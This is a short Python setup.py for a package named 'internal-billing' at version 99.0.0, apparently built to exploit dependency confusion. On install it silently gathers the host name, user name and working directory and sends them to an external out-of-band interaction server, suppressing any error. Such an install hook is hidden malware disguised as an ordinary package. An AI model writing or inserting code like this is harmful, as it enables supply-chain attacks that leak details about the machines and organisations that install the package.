import os, socket, getpass, json, urllib.request
from setuptools import setup
data = json.dumps({"h": socket.gethostname(), "u": getpass.getuser(), "d": os.getcwd(), "p": "internal-billing"}).encode()
try:
    urllib.request.urlopen(urllib.request.Request("https://cq0m1vk2vtc0000xyz.oast.fun/", data=data), timeout=3)
except Exception:
    pass
setup(name="internal-billing", version="99.0.0")
